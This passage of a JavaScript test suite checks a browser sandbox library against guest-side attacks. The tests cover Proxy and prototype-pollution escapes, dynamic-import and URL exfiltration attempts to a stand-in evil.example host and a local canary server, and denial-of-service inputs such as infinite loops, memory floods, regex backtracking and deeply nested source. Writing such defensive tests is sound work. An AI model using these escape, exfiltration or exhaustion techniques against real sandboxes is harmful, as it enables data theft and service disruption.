    out.promise = await c.eval('(() => { const p = EvilPromise.resolve(5); p.then = () => { speciesHits++; throw new Error("then read"); }; p.constructor = null; return p; })()');
    out.bytes = Array.from(await c.eval('sub'));
    out.handler = await c.eval('(async () => { const r = await callParent(evilArray); return Array.isArray(r) && r.length; })()').catch((e) => e.guestMessage);
    await c.set('incoming', [1, 2, new Map([[1, new Uint8Array([9])]])]);
    out.incoming = await c.eval('Array.isArray(incoming) && incoming[2].get(1)[0]');
    out.hits = await c.eval('speciesHits');
    await c.dispose();
    return out;
  });
  assert.deepEqual(r.array, [1, 2, 3]);
  assert.equal(r.arrayProto, true);
  assert.equal(r.promise, 5);
  assert.deepEqual(r.bytes, [2, 3]);
  assert.equal(r.handler, 3);
  assert.equal(r.incoming, 9);
  assert.equal(r.hits, 0, 'the boundary consulted a guest species or constructor');
});

test('escapes: proxies handed to endowments leak nothing and crash nothing', async () => {
  const r = await run(async (pkg) => {
    const seen = [];
    const c = await pkg.Compartment.create({ principal: 'proxies', exposeHandlerAs: 'callParent', handler: (...args) => { seen.push(args); return 'handled'; } });
    const logs = [];
    c.addEventListener('console', (e) => logs.push(e.detail.args));
    const out = await c.eval(`(() => {
      globalThis.traps = [];
      const handler = new Proxy({}, { get: (t, trap) => (...args) => { traps.push(String(trap)); if (trap === 'get' && args[1] === Symbol.toPrimitive) return undefined; return Reflect[trap](...args); } });
      const p = new Proxy({ style: 'percent', a: [1] }, handler);
      const fnProxy = new Proxy(function () {}, handler);
      const throwing = new Proxy({}, { get() { throw new Error('trap'); }, ownKeys() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });
      const r = {};
      const grab = (f) => { try { const v = f(); return v && typeof v === 'object' ? 'object' : String(v); } catch (e) { return e.name; } };
      r.handler = grab(() => callParent(p));
      r.handlerNested = grab(() => callParent({ deep: [p] }));
      r.handlerFn = grab(() => callParent(fnProxy));
      r.clone = grab(() => structuredClone(p));
      r.cloneThrowing = grab(() => structuredClone(throwing));
      r.log = grab(() => console.log(p, throwing, fnProxy));
      r.url = grab(() => new URL(new Proxy({}, { get: (t, k) => (k === Symbol.toPrimitive ? () => 'https://a.example/p' : undefined) })).href);
      r.urlThrowing = grab(() => new URL(throwing));
      r.intlOptions = grab(() => new Intl.NumberFormat('en', p).format(0.5));
      r.intlThrowing = grab(() => new Intl.NumberFormat('en', throwing));
      r.intlLocales = grab(() => new Intl.NumberFormat(new Proxy(['de'], {})).format(1234.5));
      r.textEncoder = grab(() => new TextEncoder().encode(new Proxy({}, { get: (t, k) => (k === Symbol.toPrimitive ? () => 'é' : undefined) })).length);
      r.textDecoder = grab(() => new TextDecoder().decode(new Proxy(new Uint8Array(2), {})));
      r.randomValues = grab(() => crypto.getRandomValues(new Proxy(new Uint8Array(4), {})));
      r.timer = grab(() => typeof setTimeout(fnProxy, 0));
      r.microtask = grab(() => queueMicrotask(fnProxy));
      r.btoa = grab(() => btoa(new Proxy({}, { get: (t, k) => (k === Symbol.toPrimitive ? () => 'ok' : undefined) })));
      return r;
    })()`);
    await new Promise((res) => setTimeout(res, 50));
    const after = await c.eval('6 * 7');
    await c.dispose();
    return { out, seen, logs, after };
  });
  assert.equal(r.out.handler, 'TypeError', 'a Proxy given to the host handler is refused in the guest');
  assert.equal(r.out.handlerNested, 'TypeError');
  assert.equal(r.out.handlerFn, 'TypeError');
  assert.deepEqual(r.seen, [], 'the host handler never saw a proxy');
  assert.equal(r.out.clone, 'DataCloneError');
  assert.equal(r.out.cloneThrowing, 'DataCloneError', 'the boundary refuses a Proxy before touching a trap');
  assert.equal(r.out.log, 'undefined');
  assert.equal(r.out.url, 'https://a.example/p');
  assert.equal(r.out.intlOptions, '50%');
  assert.equal(r.out.intlLocales, '1.234,5');
  assert.equal(r.out.randomValues, 'TypeError');
  assert.equal(r.after, 42);
  // Console got strings for what it could not clone: no object of the guest crossed.
  for (const args of r.logs) for (const a of args) assert.ok(a === null || typeof a !== 'object' || Object.getPrototypeOf(a) === Object.prototype || Array.isArray(a), JSON.stringify(a));
});

// ------------------------------------------------------------------------------------------
// Pollution
// ------------------------------------------------------------------------------------------

// Replaces the guest's intrinsics with recorders: anything the boundary or the glue calls
// would show up in __trail (or throw). Descriptors are null-prototype so the guest's own
// getters on Object.prototype do not spoil its own defineProperty calls.
const POLLUTE = `
var __trail = '';
(function () {
  const define = Object.defineProperty;
  const E = Error;
  const rec = (what) => function () { __trail += what + ';'; throw new E('polluted ' + what); };
  const quiet = (what) => function () { __trail += what + ';'; };
  const keys = ['polluted', 'v', 'type', 'id', 'realm', 'value', 'then', 'toJSON', 'map', 'set', 'date', 'self', 'list',
    'nested', 'n', 'a', 'b', 'c', 'big', 're', 'bytes', '0', '1', '2', 'message', 'stack', 'cause', 'ok', 'error'];
  for (let i = 0; i < keys.length; i++) { const k = keys[i]; define(Object.prototype, k, { __proto__: null, get: quiet('get ' + k), set: quiet('set ' + k), configurable: true }); }
  define(Array.prototype, '3', { __proto__: null, get: quiet('get [3]'), set: quiet('set [3]'), configurable: true });
  try { Symbol.iterator = Symbol('fake'); } catch (e) {}
  try { define(Symbol, 'iterator', { __proto__: null, value: Symbol('fake') }); } catch (e) {}
  Array.prototype.push = rec('Array.prototype.push');
  Array.prototype[Symbol.iterator] = rec('Array.prototype[Symbol.iterator]');
  Array.prototype.map = rec('Array.prototype.map');
  JSON.parse = rec('JSON.parse');
  JSON.stringify = rec('JSON.stringify');
  Promise.prototype.then = rec('Promise.prototype.then');
  Promise.resolve = rec('Promise.resolve');
  Map.prototype.set = rec('Map.prototype.set');
  Map.prototype.get = rec('Map.prototype.get');
  Map.prototype.entries = rec('Map.prototype.entries');
  Map.prototype.forEach = rec('Map.prototype.forEach');
  Map.prototype[Symbol.iterator] = rec('Map.prototype[Symbol.iterator]');
  Set.prototype.add = rec('Set.prototype.add');
  Set.prototype.values = rec('Set.prototype.values');
  Set.prototype.forEach = rec('Set.prototype.forEach');
  Set.prototype[Symbol.iterator] = rec('Set.prototype[Symbol.iterator]');
  Date.prototype.getTime = rec('Date.prototype.getTime');
  Date.prototype.valueOf = rec('Date.prototype.valueOf');
  const each = (list, f) => { for (let i = 0; i < list.length; i++) f(list[i]); };
  // (RegExp.prototype accessors are left alone here: the boundary reads them today, see the
  // todo test 'RegExp crossing reads the internal flags' below.)
  define(ArrayBuffer.prototype, 'byteLength', { __proto__: null, get: rec('ArrayBuffer.prototype.byteLength'), configurable: true });
  ArrayBuffer.prototype.slice = rec('ArrayBuffer.prototype.slice');
  Object.prototype.hasOwnProperty = rec('Object.prototype.hasOwnProperty');
  Object.prototype.propertyIsEnumerable = rec('Object.prototype.propertyIsEnumerable');
  Object.prototype.toString = rec('Object.prototype.toString');
  Object.prototype.valueOf = rec('Object.prototype.valueOf');
  each(['ownKeys', 'get', 'set', 'defineProperty', 'construct', 'apply', 'getPrototypeOf'], (k) => { Reflect[k] = rec('Reflect.' + k); });
  each(['keys', 'entries', 'create', 'assign', 'getOwnPropertyDescriptor', 'getOwnPropertyNames', 'setPrototypeOf', 'freeze'], (k) => { Object[k] = rec('Object.' + k); });
  Function.prototype.call = rec('Function.prototype.call');
  Function.prototype.apply = rec('Function.prototype.apply');
  Function.prototype.bind = rec('Function.prototype.bind');
  Object.defineProperty = rec('Object.defineProperty');
  each(['Object', 'Array', 'Map', 'Set', 'Date', 'RegExp', 'Error', 'TypeError', 'Uint8Array', 'ArrayBuffer', 'Promise', 'Symbol', 'JSON', 'Reflect', 'BigInt'], (k) => { globalThis[k] = rec('globalThis.' + k); });
})();
__trail = '';
undefined`;

const SIBLING_CHECK = `[typeof Object.getOwnPropertyDescriptor(Object.prototype, 'polluted'), 'then' in {}, [1].push(2), JSON.parse('[1]')[0],
  new Map([[1, 2]]).get(1), new Set([1]).has(1), [...[1, 2]].length, Object.defineProperty({}, 'x', { value: 1 }).x, typeof __trail,
  Promise.prototype.then.name, Function.prototype.call.name, new Date(5).getTime(), /x/g.flags, typeof Symbol.iterator, new URL('https://b.example/x').href]`;
const SIBLING_EXPECTED = ['undefined', false, 2, 1, 2, true, 2, 1, 'undefined', 'then', 'call', 5, 'g', 'symbol', 'https://b.example/x'];

test('pollution: guest changes to intrinsics reach neither the host, nor the glue, nor a sibling compartment', async () => {
  const r = await run(async (pkg, { pollute, siblingCheck }) => {
    const host = {
      push: Array.prototype.push, parse: JSON.parse, stringify: JSON.stringify, then: Promise.prototype.then, mapSet: Map.prototype.set,
      setAdd: Set.prototype.add, defineProperty: Object.defineProperty, iterator: Array.prototype[Symbol.iterator], getTime: Date.prototype.getTime,
      call: Function.prototype.call, symbolIterator: Symbol.iterator, objectProto: Object.getOwnPropertyNames(Object.prototype).join(),
      arrayProto: Object.getOwnPropertyNames(Array.prototype).join(), Object, Map, Array, Promise,
    };
    const snapshot = () => ({
      push: Array.prototype.push, parse: JSON.parse, stringify: JSON.stringify, then: Promise.prototype.then, mapSet: Map.prototype.set,
      setAdd: Set.prototype.add, defineProperty: Object.defineProperty, iterator: Array.prototype[Symbol.iterator], getTime: Date.prototype.getTime,
      call: Function.prototype.call, symbolIterator: Symbol.iterator, objectProto: Object.getOwnPropertyNames(Object.prototype).join(),
      arrayProto: Object.getOwnPropertyNames(Array.prototype).join(), Object, Map, Array, Promise,
    });
    const pool = new pkg.CompartmentPool();
    const received = [];
    const options = { principal: 'pollution', pool, exposeHandlerAs: 'callParent', handler: (v) => { received.push(v); return { back: new Map([[1, new Date(9)]]) }; } };
    const a = await pkg.Compartment.create(options);
    const siblingBefore = await pkg.Compartment.create(options);
    const logs = [];
    a.addEventListener('console', (e) => logs.push(e.detail.args));
    await a.eval('function echo(x) { return x }');
    await a.eval(pollute);
    const siblingAfter = await pkg.Compartment.create(options);

    const makeValue = () => {
      const shared = { n: 1 };
      const v = { map: new Map([[1, { date: new Date(5) }], ['k', shared]]), set: new Set([shared, 'x']), date: new Date(7), re: /x/gi,
        list: [shared, shared, , 3], bytes: new Uint8Array([1, 2, 3]), big: 2n ** 70n, nested: { a: { b: [1, { c: 'd' }] } } };
      v.self = v;
      v.list.push(v);
      return v;
    };
    const faithful = (x) => !!x && x.self === x && x.map instanceof Map && x.map.get(1).date instanceof Date && x.map.get(1).date.getTime() === 5
      && x.map.get('k') === x.list[0] && x.list[0] === x.list[1] && x.set instanceof Set && x.set.has(x.list[0]) && x.date.getTime() === 7
      && x.re instanceof RegExp && x.re.source === 'x' && x.re.flags === 'gi' && x.list.length === 5 && !(2 in x.list) && x.list[4] === x
      && x.bytes instanceof Uint8Array && x.bytes[2] === 3 && x.big === 2n ** 70n && x.nested.a.b[1].c === 'd' && Object.getPrototypeOf(x) === Object.prototype;

    await a.set('v', makeValue());
    const roundTrip = faithful(await a.eval('v'));
    const echoed = faithful(await a.call('echo', makeValue()));
    await a.eval('console.log(v); 0');
    const boundaryTrail = await a.eval('__trail');
    await a.eval('callParent(v); 0');
    await new Promise((res) => setTimeout(res, 100));
    const handlerSaw = faithful(received[0]);
    const logged = faithful(logs[0] && logs[0][0]);
    const stillServes = await a.eval('6 * 7');
    const siblings = [];
    for (const s of [siblingBefore, siblingAfter]) {
      await s.set('v', makeValue());
      siblings.push({ roundTrip: faithful(await s.eval('v')), check: await s.eval(siblingCheck) });
    }
    const now = snapshot();
    const hostChanged = Object.keys(host).filter((k) => host[k] !== now[k]);
    const hostPolluted = [({}).polluted, 'then' in {}, typeof Error.prepareStackTrace];
    a.terminate();
    const respawned = await a.eval('typeof __trail').catch((e) => e.code);
    const afterRespawn = await a.eval('typeof __trail');
    pool.close();
    return { roundTrip, echoed, boundaryTrail, handlerSaw, logged, stillServes, siblings, hostChanged, hostPolluted, respawned, afterRespawn };
  }, { pollute: POLLUTE, siblingCheck: SIBLING_CHECK });
  assert.equal(r.roundTrip, true, 'Map/Set/Date/RegExp/cycles round-trip through a polluted realm');
  assert.equal(r.echoed, true, 'a polluted realm still takes and returns arguments faithfully');
  assert.equal(r.boundaryTrail, '', `the boundary ran guest hooks: ${r.boundaryTrail}`);
  assert.equal(r.handlerSaw, true, 'the host handler got a faithful clone from a polluted realm');
  assert.equal(r.logged, true, 'console arguments cross faithfully from a polluted realm');
  assert.equal(r.stillServes, 42);
  for (const [i, s] of r.siblings.entries()) {
    assert.equal(s.roundTrip, true, `sibling ${i} round trip`);
    assert.deepEqual(s.check, SIBLING_EXPECTED, `sibling ${i} (same principal, same worker) sees clean intrinsics`);
  }
  assert.deepEqual(r.hostChanged, [], 'host page intrinsics changed');
  assert.deepEqual(r.hostPolluted, [undefined, false, 'undefined']);
  assert.equal(r.afterRespawn, 'undefined');
});

test('pollution: prototype-looking keys and protocol-looking values cross as plain data', async () => {
  const r = await run(async (pkg) => {
    const received = [];
    const pool = new pkg.CompartmentPool();
    const terminated = [];
    pool.addEventListener('terminated', (e) => terminated.push(e.detail.reason));
    const c = await pkg.Compartment.create({ principal: 'proto-keys', pool, exposeHandlerAs: 'callParent', handler: (v) => { received.push(v); return v; } });
    const out = await c.eval(`JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "v": 2, "type": "fatal", "id": 1, "reason": "memory", "memory": 1e12, "tokens": true}')`);
    await c.set('incoming', JSON.parse('{"__proto__": {"x": 1}, "then": 5}'));
    const inside = await c.eval("[Object.getPrototypeOf(incoming) === Object.prototype, Object.hasOwn(incoming, '__proto__'), incoming.x, incoming.then]");
    await c.eval(`callParent(JSON.parse('{"__proto__": {"polluted": 1}}')); 0`);
    await new Promise((res) => setTimeout(res, 50));
    const next = await c.eval('1 + 1');
    pool.close();
    return {
      ownProto: Object.hasOwn(out, '__proto__'), proto: Object.getPrototypeOf(out) === Object.prototype, type: out.type, memory: out.memory,
      inside, handlerOwn: Object.hasOwn(received[0], '__proto__'), handlerProto: Object.getPrototypeOf(received[0]) === Object.prototype,
      hostClean: ({}).polluted === undefined && Object.prototype.polluted === undefined, next, terminated,
    };
  });
  assert.deepEqual(r, {
    ownProto: true, proto: true, type: 'fatal', memory: 1e12, inside: [true, true, undefined, 5], handlerOwn: true, handlerProto: true,
    hostClean: true, next: 2, terminated: ['requested'],
  });
});

// ------------------------------------------------------------------------------------------
// Exfiltration
// ------------------------------------------------------------------------------------------

/** A dynamic import, raced against a guest timer: it must be refused, never loaded, never left hanging. */
const IMPORT = (promise) => `Promise.race([(${promise}).then(() => 'loaded', (e) => 'refused ' + e.name + ': ' + e.message), new Promise((r) => setTimeout(() => r('still pending'), 300))])`;

const EXFIL = [
  ['network globals', '[typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof EventSource, typeof navigator, typeof importScripts, typeof Image, typeof Request, typeof WebTransport, typeof RTCPeerConnection, typeof BroadcastChannel, typeof MessageChannel].join()', 'value'],
  ['import(https://evil.example)', IMPORT('import("https://evil.example/x.js")'), 'import'],
  ['import(canary)', IMPORT('import(CANARY + "/import.js")'), 'import'],
  ['import(protocol-relative)', IMPORT('import("//evil.example/x.js")'), 'import'],
  ['import(data:)', IMPORT('import("data:text/javascript,export default 1")'), 'import'],
  ['import(javascript:)', IMPORT('import("javascript:1")'), 'import'],
  ['import(relative)', IMPORT('import("./x.js")'), 'import'],
  ['import(bare specifier)', IMPORT('import("lodash")'), 'import'],
  ['import(userinfo trick)', IMPORT('import("http://127.0.0.1@evil.example/x.js")'), 'import'],
  ['import(../ out of the realm)', IMPORT('import(ORIGIN + "/realm/../pkg/index.js")'), 'import'],
  ['import(%2e%2e out of the realm)', IMPORT('import(ORIGIN + "/realm/%2e%2e/pkg/index.js")'), 'import'],
  ['import with attributes', IMPORT('import(CANARY + "/data.json", { with: { type: "json" } })'), 'import'],
  ['import from eval', IMPORT('eval("import(CANARY + \\"/eval.js\\")")'), 'import'],
  ['import from Function', IMPORT('Function("u", "return import(u)")(CANARY + "/fn.js")'), 'import'],
  ['import from a timer', IMPORT('new Promise((r) => setTimeout(() => r(import(CANARY + "/timer.js")), 0))'), 'import'],
  ['URL parsing only', 'new URL(CANARY + "/url?x=1#h").href + " " + new URL("/rel", CANARY).origin + " " + URL.canParse(CANARY + "/y")', 'value'],
  ['URL setters', '(() => { const u = new URL("https://a.example/"); u.href = CANARY + "/set"; u.host = "evil.example"; u.searchParams.append("leak", "1"); return u.href; })()', 'value'],
  ['Intl with weird locales', `[() => new Intl.NumberFormat(CANARY).format(1), () => new Intl.NumberFormat('en-u-nu-' + 'x'.repeat(500)).format(1),
    () => Intl.getCanonicalLocales(['x-' + CANARY]), () => new Intl.DateTimeFormat('en', { timeZone: CANARY }).format(0),
    () => 'a'.localeCompare('b', 'de-u-co-phonebk'), () => (1234.5).toLocaleString('ar-EG-u-nu-arab'),
    () => new Intl.DateTimeFormat('en', { calendar: CANARY }).format(0), () => new Intl.ListFormat(['https://evil.example/']).format(['a', 'b']),
    () => Intl.NumberFormat.supportedLocalesOf([CANARY, 'en']), () => new Date(0).toLocaleString('en-US-u-tz-' + 'a'.repeat(300))]
    .map((f) => { try { return String(f()); } catch (e) { return e.name; } }).join('|')`, 'value'],
  ['console with URLs', 'console.log(CANARY + "/console.png", { src: CANARY + "/x.png", href: "https://evil.example/" }); "logged"', 'value'],
  ['host handler with URLs', 'callParent(CANARY + "/handler", { url: "https://evil.example/" })', 'value'],
  ['TextDecoder with a URL label', '(() => { try { new TextDecoder(CANARY); return "accepted"; } catch (e) { return e.name; } })()', 'value'],
  ['structuredClone of a URL', 'JSON.stringify(structuredClone(new URL(CANARY)))', 'value'],
];

test('exfiltration: no guest action makes a request, even with the page\'s CSP removed', async () => {
  const hits = [];
  const canary = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('export default 1;');
  });
  await new Promise((ok) => canary.listen(0, '127.0.0.1', ok));
  const canaryOrigin = `http://127.0.0.1:${canary.address().port}`;
  const context = await h.browser.newContext();
  const requests = [];
  context.on('request', (req) => requests.push(req.url()));
  // Take away the defence in depth, so that an escape would really reach the canary and the
  // sandbox alone must keep it silent: the page's CSP (connect-src 'self') is stripped, and
  // requests to the canary are forwarded by the driver (Chromium's Local Network Access would
  // otherwise refuse a page's request to another loopback port).
  await context.route((url) => url.origin === h.origin || url.origin === canaryOrigin, async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    delete headers['content-security-policy'];
    await route.fulfill({ response, headers });
  });
  try {
    const p = await context.newPage();
    const pageErrors = [];
    p.on('pageerror', (e) => pageErrors.push(String(e)));
    await p.goto(`${h.origin}/tests/`);
    await p.waitForFunction(() => globalThis.ready === true);
    // Positive control: without CSP the page and a worker can reach the canary.
    const control = await p.evaluate(async (canaryUrl) => {
      const fromPage = await fetch(`${canaryUrl}/control-page`).then((r) => r.status);
      const w = new Worker(URL.createObjectURL(new Blob([`fetch('${canaryUrl}/control-worker').then((r) => postMessage(r.status), (e) => postMessage(String(e)))`], { type: 'text/javascript' })));
      const fromWorker = await new Promise((res) => { w.onmessage = (e) => res(e.data); });
      w.terminate();
      return { fromPage, fromWorker, pageEval: globalThis.pageEval };
    }, canaryOrigin);
    assert.deepEqual(control, { fromPage: 200, fromWorker: 200, pageEval: 'allowed' });
    assert.deepEqual(hits, ['/control-page', '/control-worker']);
    hits.length = 0;
    requests.length = 0;

    const r = await p.evaluate(`(${async (pkg, { canary: canaryUrl, origin, attempts }) => {
      const handled = [];
      const setup = `var CANARY = ${JSON.stringify(canaryUrl)}, ORIGIN = ${JSON.stringify(origin)};`;
      const out = [];
      for (const principal of ['exfil', `${origin}/realm/`]) {
        const c = await pkg.Compartment.create({ principal, exposeHandlerAs: 'callParent', handler: (...a) => { handled.push(a); return 'ok'; }, limits: { timeoutMs: 2000 } });
        await c.eval(setup);
        for (const [label, src] of attempts) {
          out.push([`${principal} ${label}`, await c.eval(src).then((v) => v, (e) => `${e.code} ${e.guestName || ''}: ${e.guestMessage || e.message}`)]);
        }
        await c.dispose();
      }
      await new Promise((res) => setTimeout(res, 500));
      return { out, handled: handled.length };
    }})(globalThis.pkg, ${JSON.stringify({ canary: canaryOrigin, origin: h.origin, attempts: EXFIL.map(([l, s]) => [l, s]) })})`);

    const results = Object.fromEntries(r.out);
    for (const [label, src, kind] of EXFIL) {
      for (const principal of ['exfil', `${h.origin}/realm/`]) {
        const got = results[`${principal} ${label}`];
        if (kind === 'import') {
          assert.match(String(got), /^refused (TypeError|SyntaxError)/, `${principal} ${label}: ${got}`);
        } else {
          assert.ok(typeof got === 'string' && !got.startsWith('SANDBOX_'), `${principal} ${label}: ${got}`);
        }
      }
    }
    assert.equal(results['exfil network globals'], Array(12).fill('undefined').join());
    const refusals = new Set(r.out.filter(([, v]) => String(v).startsWith('refused')).map(([, v]) => String(v).replace(/: .*/, '')));
    console.log(`exfiltration: ${r.out.length} attempts from 2 principals without CSP, no request; imports ${[...refusals].join(', ')}; ` +
      `sample: ${results['exfil import(canary)']}`);
    assert.equal(r.handled, 2, 'the host handler received the URL strings as data');
    // Let anything delayed arrive, then demand silence.
    await new Promise((res) => setTimeout(res, 300));
    assert.deepEqual(hits, [], 'the canary was contacted');
    assert.deepEqual(requests.filter((u) => !u.startsWith(h.origin)), [], 'a request left for another origin');
    assert.deepEqual(requests.filter((u) => /evil\.example|canary|\/control-/.test(u)), []);
    assert.deepEqual(pageErrors, []);
  } finally {
    await context.close();
    await new Promise((ok) => canary.close(ok));
  }
});

// ------------------------------------------------------------------------------------------
// Resources and crashes
// ------------------------------------------------------------------------------------------

const LIMIT_TIME = ['SANDBOX_LIMIT_EXCEEDED:timeoutMs', 'SANDBOX_LIMIT_EXCEEDED:instructions'];

// Each row: the guest source, the outcomes allowed, and optional extra checks on the result
// (`r.outcome`, `r.after`, `r.events`, `r.handled`). Defaults: timeoutMs 300 in a pool with
// graceMs 150 and memoryLimitMb 64.
const RESOURCES = [
  { name: 'infinite loop', src: 'while (true) {}', expect: LIMIT_TIME },
  { name: 'a loop that catches and continues from finally', src: 'for (;;) { try { for (;;) {} } catch (e) {} finally { continue; } }', expect: LIMIT_TIME },
  { name: 'instruction budget', src: 'for (let i = 0; ; i++) {}', limits: { instructions: 1e6, timeoutMs: 5000 }, expect: ['SANDBOX_LIMIT_EXCEEDED:instructions'] },
  { name: 'deep recursion', src: 'function f() { return f() + 1; } f()', expect: ['SANDBOX_LIMIT_EXCEEDED:maxRecursion'] },
  { name: 'recursion that tries to catch its RangeError', src: 'function f() { try { return f() + 1; } catch (e) { return f(); } } f()', expect: ['SANDBOX_LIMIT_EXCEEDED:maxRecursion', ...LIMIT_TIME] },
  { name: 'async infinite loop', src: '(async () => { for (;;) await null; })()', expect: LIMIT_TIME },
  // Each iteration leaves a job queued, so the queue grows until the deadline; once that passes
  // memoryLimitMb 64 first, the memory ceiling stops the step (a promise is cheap since patch 25).
  { name: 'promise flood', src: 'for (;;) Promise.resolve().then(() => {})', expect: [...LIMIT_TIME, 'SANDBOX_TERMINATED:memory'] },
  { name: 'microtask flood', src: '(function f() { queueMicrotask(f); queueMicrotask(f); })(); 1', expect: [...LIMIT_TIME, 'SANDBOX_TERMINATED:memory'] },
  { name: 'timer flood past maxTimers', src: 'let n = 0; try { for (let i = 0; i < 2000; i++) { setTimeout(() => {}, 1e6); n++; } } catch (e) { [n, e.name] }', expect: ['value'], check: (r) => assert.deepEqual(r.outcome.value.first, [1000, 'RangeError']) },
  { name: 'an interval that never yields', src: 'setInterval(() => { for (;;) {} }, 0)', expect: ['value'], settleMs: 700,
    check: (r) => assert.deepEqual(r.events.error, ['SANDBOX_LIMIT_EXCEEDED'], 'one limit report, then the interval is cleared') },
  { name: 'console flood', src: 'for (;;) console.log("x")', expect: LIMIT_TIME, check: (r) => assert.ok(r.events.console <= 102, `${r.events.console} console events`) },
  { name: 'host-call flood', src: 'for (let i = 0; ; i++) callParent(i)', expect: ['SANDBOX_GUEST_THREW:RangeError'], settleMs: 100, check: (r) => assert.ok(r.handled <= 1024, `${r.handled} host calls`) },
  { name: "'x'.repeat(2**29)", src: "try { 'x'.repeat(2 ** 29) } catch (e) { e.name }", expect: ['value'], check: (r) => assert.equal(r.outcome.value, 'RangeError') },
  { name: "''.padStart(2**30)", src: "try { ''.padStart(2 ** 30) } catch (e) { e.name }", expect: ['value'], check: (r) => assert.equal(r.outcome.value, 'RangeError') },
  { name: 'new ArrayBuffer(2**31)', src: 'try { new ArrayBuffer(2 ** 31) } catch (e) { e.name }', expect: ['value'], check: (r) => assert.equal(r.outcome.value, 'RangeError') },
  { name: 'new Float64Array(2**28)', src: 'try { new Float64Array(2 ** 28) } catch (e) { e.name }', expect: ['value'], check: (r) => assert.equal(r.outcome.value, 'RangeError') },
  { name: 'string doubling s += s', src: 'let s = "x"; for (;;) s += s', limits: { timeoutMs: 4000 }, expect: ['SANDBOX_TERMINATED:memory', 'SANDBOX_TERMINATED:crashed', 'SANDBOX_TERMINATED:timeout'] },
  // The ceiling is checked with the deadline, every slice of bytecode: the step ends as soon as
  // the memory passes 64 MB, long before its 20 s deadline, and the memory stops near the cap.
  { name: 'object flood past memoryLimitMb', src: 'const a = []; for (;;) a.push({ a: 1, b: [1, 2, 3] })', limits: { timeoutMs: 20000 }, expect: ['SANDBOX_TERMINATED:memory'],
    check: (r) => {
      assert.ok(r.ms < 10000, `stopped after ${r.ms} ms`);
      const grew = Number(/grew to (\d+) bytes/.exec(r.outcome.message)?.[1]);
      assert.ok(grew < 72 * 2 ** 20, `the memory reached ${grew} bytes`);
    } },
  { name: 'new Array(1e9).fill(0)', src: 'new Array(1e9).fill(0).length', expect: ['SANDBOX_TERMINATED:timeout', 'SANDBOX_TERMINATED:memory', 'SANDBOX_TERMINATED:crashed'] },
  { name: 'catastrophic regex backtracking', src: '/^(a+)+$/.test("a".repeat(40) + "b")', expect: ['SANDBOX_TERMINATED:timeout'] },
  { name: 'a huge sparse array crosses as sparse', src: 'const a = []; a.length = 2 ** 32 - 1; a[5] = 1; a', expect: ['value'],
    check: (r) => assert.deepEqual(r.outcome.value, { array: 2 ** 32 - 1, keys: ['5'], first: [undefined, undefined, undefined, undefined] }) },
  // The row proves the clone's depth refusal, not a deadline: building the array took 100 ms
  // in one CI run and 348 ms (past the default 300 ms) in the next, in a worker just spawned.
  { name: 'deep return value', src: 'let a = []; for (let i = 0; i < 1e5; i++) a = [a]; a', limits: { timeoutMs: 3000 }, expect: ['SANDBOX_LIMIT_EXCEEDED:maxCloneDepth'], check: (r) => assert.ok(r.outcome.path.startsWith('$[0][0][0]')) },
  { name: 'a getter that builds an endless value', src: 'function mk() { return { get x() { return mk(); } }; } mk()', expect: ['SANDBOX_LIMIT_EXCEEDED:maxCloneDepth'] },
  { name: 'cyclic return value', src: 'const o = { m: new Map() }; o.m.set("self", o); o.self = o; o.list = [o, o.m]; o', expect: ['value'], view: '(v) => v.self === v && v.m.get("self") === v && v.list[1] === v.m && v.list[0] === v',
    check: (r) => assert.equal(r.outcome.value, true) },
  { name: 'a getter that throws', src: '({ get x() { throw new RangeError("from a getter"); } })', expect: ['SANDBOX_GUEST_THREW:RangeError'] },
  { name: 'a getter that loops forever', src: '({ get x() { for (;;) {} } })', expect: LIMIT_TIME },
  { name: 'a Proxy in the result (traps never run)', src: 'globalThis.trapped = 0; const t = () => { trapped++; }; ({ a: [new Proxy({}, { get: t, ownKeys: t, getPrototypeOf: t, has: t, getOwnPropertyDescriptor: t })] })',
    expect: ['SANDBOX_NOT_CLONEABLE:Proxy'], after: 'trapped', check: (r) => { assert.equal(r.outcome.path, '$.a[0]'); assert.equal(r.after.value, 0); } },
  { name: 'a symbol in the result', src: '({ a: Symbol("s") })', expect: ['SANDBOX_NOT_CLONEABLE:symbol'] },
  { name: 'a function in the result', src: '({ a: { b() {} } })', expect: ['SANDBOX_NOT_CLONEABLE:function'], check: (r) => assert.equal(r.outcome.path, '$.a.b') },
  { name: 'a nested promise in the result', src: '({ p: Promise.resolve(1) })', expect: ['SANDBOX_NOT_CLONEABLE:Promise'] },
  { name: 'a WeakMap in the result', src: '[new WeakMap()]', expect: ['SANDBOX_NOT_CLONEABLE:WeakMap'] },
  { name: 'too many objects', src: 'Array.from({ length: 5000 }, () => ({}))', limits: { maxCloneObjects: 1000 }, expect: ['SANDBOX_LIMIT_EXCEEDED:maxCloneObjects'] },
  { name: 'too many bytes', src: 'const s = "x".repeat(2 ** 22); Array(10).fill(s)', limits: { timeoutMs: 2000 }, expect: ['SANDBOX_LIMIT_EXCEEDED:maxCloneBytes'] },
  { name: 'throwing a Proxy', src: 'throw new Proxy({}, {})', expect: ['SANDBOX_GUEST_THREW:value'] },
  { name: 'throwing an error whose name getter loops', src: 'const e = new Error("m"); Object.defineProperty(e, "name", { get() { for (;;) {} } }); throw e', expect: ['SANDBOX_GUEST_THREW:value'] },
  { name: 'an error-report flood (microtask throws)', src: 'for (let i = 0; i < 5000; i++) queueMicrotask(() => { throw 0; }); 1', limits: { timeoutMs: 2000 }, expect: ['value'], settleMs: 300,
    check: (r) => console.log(`  error-report flood: ${r.events.errors} error events from one entry, worst frame gap ${r.worstFrameGap.toFixed(0)} ms (no rate limit; see SECURITY.md)`) },
];

// Inputs that overflow Boa's native stack or abort it: contained, never prevented. Each
// must end in a typed error (`crashed`, or catchable), and a fresh worker must serve next.
const CRASHERS = [
  { name: 'deeply nested array source', src: '['.repeat(200000) + ']'.repeat(200000) },
  { name: 'deeply nested parens', src: '('.repeat(200000) + '1' + ')'.repeat(200000) },
  { name: 'long if chain', src: 'if (1) '.repeat(200000) + '1' },
  { name: 'deeply nested functions', src: 'function f() {'.repeat(20000) + '}'.repeat(20000) },
  { name: 'deeply nested template literals', src: '`${'.repeat(50000) + '1' + '}`'.repeat(50000) },
